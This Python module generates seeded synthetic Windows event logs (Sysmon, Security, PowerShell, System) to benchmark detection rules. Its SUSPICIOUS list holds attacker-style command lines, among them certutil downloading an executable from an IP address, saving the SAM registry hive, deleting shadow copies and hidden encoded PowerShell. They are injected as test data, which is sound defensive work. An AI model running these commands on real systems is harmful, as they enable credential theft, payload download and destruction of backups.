"""Windows telemetry with high cardinality for the benchmarks: already flattened, seeded, made up.

Hosts, users, process ids, GUIDs, hashes, paths and arguments are fresh for nearly every event; only programs, services
and channels repeat, as they do in a real company. About one event in thirty looks suspicious, so that rules fire.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from typing import Any

from ringfence.ecs.event import Parsed
from ringfence.ecs.logsource import Logsource, logsource

SYSMON = "Microsoft-Windows-Sysmon/Operational"
WORDS = tuple(
    word
    for line in (
        "report invoice budget summer plan draft team build release backup notes agenda export import archive sales",
        "ledger payroll vendor client contract photo scan index queue worker service agent update setup install cache",
        "session profile temp data result final copy review status metrics gateway proxy storage search mirror stage",
    )
    for word in line.split()
)
PROGRAMS = (
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "Google Chrome", "Google LLC", "chrome.exe"),
    (r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", "Edge", "Microsoft Corporation", "msedge.exe"),
    (r"C:\Windows\System32\svchost.exe", "Host Process", "Microsoft Corporation", "svchost.exe"),
    (r"C:\Windows\System32\cmd.exe", "Windows Command Processor", "Microsoft Corporation", "Cmd.Exe"),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "Windows PowerShell",
        "Microsoft Corporation",
        "PowerShell.EXE",
    ),
    (r"C:\Windows\System32\conhost.exe", "Console Window Host", "Microsoft Corporation", "CONHOST.EXE"),
    (r"C:\Program Files\Git\cmd\git.exe", "Git for Windows", "The Git Development Community", "git.exe"),
    (r"C:\Program Files\Java\jdk-17\bin\java.exe", "OpenJDK Platform binary", "Eclipse Adoptium", "java.exe"),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "Outlook", "Microsoft Corporation", "Outlook.exe"),
    (r"C:\Windows\System32\taskhostw.exe", "Host Process for Tasks", "Microsoft Corporation", "taskhostw.exe"),
    (r"C:\Windows\System32\rundll32.exe", "Windows host process", "Microsoft Corporation", "RUNDLL32.EXE"),
    (r"C:\Windows\System32\wbem\WmiPrvSE.exe", "WMI Provider Host", "Microsoft Corporation", "Wmiprvse.exe"),
    (r"C:\Users\%s\AppData\Local\Programs\Python\Python311\python.exe", "Python", "PSF", "python.exe"),
    (r"C:\Program Files\dotnet\dotnet.exe", ".NET Host", "Microsoft Corporation", ".NET Host"),
)
SUSPICIOUS = (
    "powershell.exe -NoP -W Hidden -Enc %s",
    "cmd.exe /c whoami /all > C:\\Users\\Public\\%s.txt",
    "vssadmin.exe delete shadows /all /quiet & rem %s",
    "rundll32.exe C:\\Users\\Public\\%s.dll,Start",
    "certutil.exe -urlcache -split -f http://203.0.113.9/%s.exe",
    "reg.exe save hklm\\sam C:\\Windows\\Temp\\%s.hiv",
    "schtasks /create /sc minute /tn %s /tr C:\\Users\\Public\\a.exe",
)

FRESH = frozenset(
    {
        "UtcTime",
        "ProcessGuid",
        "ProcessId",
        "ParentProcessGuid",
        "ParentProcessId",
        "LogonGuid",
        "SubjectLogonId",
        "TargetLogonId",
        "NewProcessId",
        "ScriptBlockId",
        "SourcePort",
        "IpPort",
    }
)
"""Fields that are new in every event even where the same things happen again and again."""


def repetitive(count: int, seed: int = 1, pool: int = 2000) -> Iterator[Parsed]:
    """Yield events of a quiet fleet: what `pool` events say, again and again, under fresh times, ids and GUIDs."""
    models = list(Generator(seed).events(pool))
    chance = random.Random(seed)
    fresh = Generator(seed + 1)
    for _ in range(count):
        model = chance.choice(models)
        yield fresh.again(model)


class Generator:
    """Makes events, the same ones for the same seed. `length`: characters of each command line, 0 for usual ones."""

    def __init__(self, seed: int = 1, length: int = 0) -> None:
        self._random = random.Random(seed)
        self._length = length
        self._record = 100_000

    def events(self, count: int, kinds: str = "mixed") -> Iterator[Parsed]:
        """Yield events: `mixed` channels or `process` creations only."""
        makers = (
            [self.process] if kinds == "process" else [maker for maker, weight in self._mix() for _ in range(weight)]
        )
        for _ in range(count):
            yield self._random.choice(makers)()

    def _mix(self) -> tuple[tuple[Callable[[], Parsed], int], ...]:
        return (
            (self.process, 25),
            (self.security_process, 10),
            (self.network, 15),
            (self.image_load, 12),
            (self.registry, 14),
            (self.file, 10),
            (self.dns, 8),
            (self.logon, 12),
            (self.failed_logon, 3),
            (self.script_block, 3),
            (self.process_access, 5),
            (self.service, 2),
        )

    def _parsed(self, source: Logsource, event: int, channel: str, fields: dict[str, Any]) -> Parsed:
        self._record += 1
        host = self._host()
        head = {
            "EventID": event,
            "Channel": channel,
            "Provider_Name": channel.split("/", maxsplit=1)[0],
            "Computer": host,
            "EventRecordID": self._record,
        }
        return Parsed("windows", source, 1_767_225_600_000_000 + self._record, {"host.name": host}, head | fields)

    def _host(self) -> str:
        return f"WS-{self._random.randrange(5000):04d}.corp.example.com"

    def _user(self) -> str:
        return f"{self._random.choice(WORDS)}.{self._random.choice(WORDS)}{self._random.randrange(40)}"

    def _hex(self, digits: int) -> str:
        return f"{self._random.getrandbits(4 * digits):0{digits}X}"

    def _guid(self) -> str:
        return f"{{{self._hex(8)}-{self._hex(4)}-{self._hex(4)}-{self._hex(4)}-{self._hex(12)}}}"

    def _pid(self) -> int:
        return self._random.randrange(4, 65_000, 4)

    def _name(self) -> str:
        return "_".join(self._random.choices(WORDS, k=2)) + self._hex(4).lower()

    def _path(self, user: str) -> str:
        place = self._random.choice(("Documents", "Downloads", r"AppData\Local\Temp", r"source\repos", "Desktop"))
        return rf"C:\Users\{user}\{place}\{self._name()}\{self._name()}"

    def _hashes(self) -> str:
        return f"SHA1={self._hex(40)},MD5={self._hex(32)},SHA256={self._hex(64)},IMPHASH={self._hex(32)}"

    def _arguments(self, user: str) -> str:
        pick = self._random.randrange(8)
        if pick == 0:
            flags = " ".join(f"--{self._name()}={self._random.getrandbits(40)}" for _ in range(8))
            return f"--type=renderer --lang=en-US {flags}"
        if pick == 1:
            return f"-k netsvcs -p -s {self._name()}"
        if pick == 2:
            return f'/c ""{self._path(user)}.bat" --stage {self._hex(6)}"'
        if pick == 3:
            return f'-ExecutionPolicy RemoteSigned -File "{self._path(user)}.ps1" -Id {self._hex(8)}'
        if pick == 4:
            jars = ";".join(rf"C:\app\lib\{self._name()}.jar" for _ in range(6))
            return f"-Xmx512m -cp {jars} com.example.{self._random.choice(WORDS)}.Main"
        return f'"{self._path(user)}.{self._random.choice(("docx", "log", "json", "py"))}" -n {self._hex(10)}'

    def _command(self, program: str, user: str) -> str:
        if self._length:
            body = f'"{program}" {self._arguments(user)} '
            while len(body) < self._length:
                body += f"{self._name()} {self._hex(8)} "
            return body[: self._length]
        if self._random.random() < 0.03:
            return self._random.choice(SUSPICIOUS) % self._name()
        return f'"{program}" {self._arguments(user)}'

    def _program(self, user: str) -> tuple[str, str, str, str]:
        path, product, company, name = self._random.choice(PROGRAMS)
        return path.replace("%s", user), product, company, name

    def again(self, model: Parsed) -> Parsed:
        """The same event with fresh ids."""
        self._record += 1
        fields = dict(model.fields)
        fields["EventRecordID"] = self._record
        for key in FRESH & fields.keys():
            old = fields[key]
            fields[key] = self._pid() if isinstance(old, int) else self._guid() if str(old)[:1] == "{" else self._hex(7)
        return Parsed(model.parser, model.logsource, model.time, dict(model.ecs), fields)

    def process(self) -> Parsed:
        """Sysmon 1."""
        user = self._user()
        path, product, company, name = self._program(user)
        parent = self._program(user)[0]
        fields = {
            "UtcTime": f"2026-01-01 08:{self._random.randrange(60):02d}:11.{self._random.randrange(999):03d}",
            "ProcessGuid": self._guid(),
            "ProcessId": self._pid(),
            "Image": path,
            "FileVersion": f"10.0.{self._random.randrange(99999)}.1",
            "Description": product,
            "Product": product,
            "Company": company,
            "OriginalFileName": name,
            "CommandLine": self._command(path, user),
            "CurrentDirectory": self._path(user) + "\\",
            "User": f"CORP\\{user}",
            "LogonGuid": self._guid(),
            "LogonId": f"0x{self._hex(6)}",
            "TerminalSessionId": self._random.randrange(4),
            "IntegrityLevel": self._random.choice(("Medium", "High", "System")),
            "Hashes": self._hashes(),
            "ParentProcessGuid": self._guid(),
            "ParentProcessId": self._pid(),
            "ParentImage": parent,
            "ParentCommandLine": self._command(parent, user),
            "ParentUser": f"CORP\\{user}",
        }
        return self._parsed(logsource("windows", ("process_creation",), "sysmon"), 1, SYSMON, fields)

    def security_process(self) -> Parsed:
        """Security 4688."""
        user = self._user()
        path = self._program(user)[0]
        fields = {
            "SubjectUserSid": f"S-1-5-21-{self._random.getrandbits(31)}-1104",
            "SubjectUserName": user,
            "SubjectDomainName": "CORP",
            "SubjectLogonId": f"0x{self._hex(6)}",
            "NewProcessId": f"0x{self._hex(4)}",
            "NewProcessName": path,
            "TokenElevationType": "%%1936",
            "ProcessId": f"0x{self._hex(4)}",
            "CommandLine": self._command(path, user),
            "TargetUserName": "-",
            "ParentProcessName": self._program(user)[0],
        }
        return self._parsed(logsource("windows", ("process_creation",), "security"), 4688, "Security", fields)

    def _sysmon(self, event: int, categories: tuple[str, ...], fields: dict[str, Any]) -> Parsed:
        user = self._user()
        head = {
            "UtcTime": f"2026-01-01 08:{self._random.randrange(60):02d}:12.{self._random.randrange(999):03d}",
            "ProcessGuid": self._guid(),
            "ProcessId": self._pid(),
            "Image": self._program(user)[0],
            "User": f"CORP\\{user}",
        }
        return self._parsed(logsource("windows", categories, "sysmon"), event, SYSMON, head | fields)

    def network(self) -> Parsed:
        """Sysmon 3."""
        fields = {
            "Protocol": "tcp",
            "Initiated": True,
            "SourceIp": f"198.51.100.{self._random.randrange(256)}",
            "SourcePort": self._random.randrange(1024, 65536),
            "DestinationIp": f"203.0.113.{self._random.randrange(256)}",
            "DestinationHostname": f"{self._name()}.example.net",
            "DestinationPort": self._random.choice((443, 80, 445, 53, 8080, 3389)),
        }
        return self._sysmon(3, ("network_connection",), fields)

    def image_load(self) -> Parsed:
        """Sysmon 7."""
        fields = {
            "ImageLoaded": rf"C:\Windows\System32\{self._name()}.dll",
            "OriginalFileName": f"{self._name()}.dll",
            "Company": "Microsoft Corporation",
            "Hashes": self._hashes(),
            "Signed": "true",
            "Signature": "Microsoft Windows",
            "SignatureStatus": "Valid",
        }
        return self._sysmon(7, ("image_load",), fields)

    def registry(self) -> Parsed:
        """Sysmon 13."""
        fields = {
            "EventType": "SetValue",
            "TargetObject": rf"HKU\S-1-5-21-{self._random.getrandbits(31)}\Software\{self._name()}\{self._name()}",
            "Details": f"DWORD (0x{self._hex(8)})",
        }
        return self._sysmon(13, ("registry_set", "registry_event"), fields)

    def file(self) -> Parsed:
        """Sysmon 11."""
        ending = self._random.choice(("tmp", "docx", "log", "dll", "ps1", "exe"))
        fields = {
            "TargetFilename": f"{self._path(self._user())}.{ending}",
            "CreationUtcTime": "2026-01-01 08:00:00.000",
        }
        return self._sysmon(11, ("file_event",), fields)

    def dns(self) -> Parsed:
        """Sysmon 22."""
        fields = {
            "QueryName": f"{self._name()}.example.org",
            "QueryStatus": "0",
            "QueryResults": f"::ffff:203.0.113.{self._random.randrange(256)};",
        }
        return self._sysmon(22, ("dns_query",), fields)

    def process_access(self) -> Parsed:
        """Sysmon 10."""
        user = self._user()
        fields = {
            "SourceImage": self._program(user)[0],
            "TargetImage": self._program(user)[0],
            "GrantedAccess": self._random.choice(("0x1000", "0x1400", "0x1FFFFF", "0x3000")),
            "CallTrace": "|".join(rf"C:\Windows\System32\ntdll.dll+{self._hex(5)}" for _ in range(6)),
        }
        return self._sysmon(10, ("process_access",), fields)

    def _security(self, event: int, fields: dict[str, Any]) -> Parsed:
        return self._parsed(logsource("windows", (), "security"), event, "Security", fields)

    def logon(self) -> Parsed:
        """Security 4624."""
        user = self._user()
        fields = {
            "SubjectUserSid": "S-1-5-18",
            "SubjectUserName": f"{self._host()[:7]}$",
            "TargetUserSid": f"S-1-5-21-{self._random.getrandbits(31)}-1107",
            "TargetUserName": user,
            "TargetDomainName": "CORP",
            "TargetLogonId": f"0x{self._hex(7)}",
            "LogonType": self._random.choice((2, 3, 5, 7, 10)),
            "LogonProcessName": "Kerberos",
            "AuthenticationPackageName": "Kerberos",
            "WorkstationName": self._host()[:7],
            "LogonGuid": self._guid(),
            "KeyLength": 0,
            "ProcessId": f"0x{self._hex(3)}",
            "ProcessName": r"C:\Windows\System32\lsass.exe",
            "IpAddress": f"192.0.2.{self._random.randrange(256)}",
            "IpPort": self._random.randrange(1024, 65536),
        }
        return self._security(4624, fields)

    def failed_logon(self) -> Parsed:
        """Security 4625."""
        fields = {
            "TargetUserName": self._user(),
            "TargetDomainName": "CORP",
            "Status": "0xc000006d",
            "SubStatus": "0xc000006a",
            "LogonType": 3,
            "IpAddress": f"192.0.2.{self._random.randrange(256)}",
            "WorkstationName": self._host()[:7],
        }
        return self._security(4625, fields)

    def script_block(self) -> Parsed:
        """PowerShell 4104."""
        lines = [
            f"$v{i} = Get-Content -Path '{self._path(self._user())}.csv' | Select-Object {self._name()}"
            for i in range(6)
        ]
        fields = {
            "MessageNumber": 1,
            "MessageTotal": 1,
            "ScriptBlockText": "\n".join(lines),
            "ScriptBlockId": self._guid(),
        }
        source = logsource("windows", ("ps_script",), "powershell")
        return self._parsed(source, 4104, "Microsoft-Windows-PowerShell/Operational", fields)

    def service(self) -> Parsed:
        """System 7045."""
        fields = {
            "ServiceName": self._name(),
            "ImagePath": rf"C:\Program Files\{self._name()}\{self._name()}.exe",
            "ServiceType": "user mode service",
            "StartType": "auto start",
            "AccountName": "LocalSystem",
        }
        return self._parsed(logsource("windows", (), "system"), 7045, "System", fields)
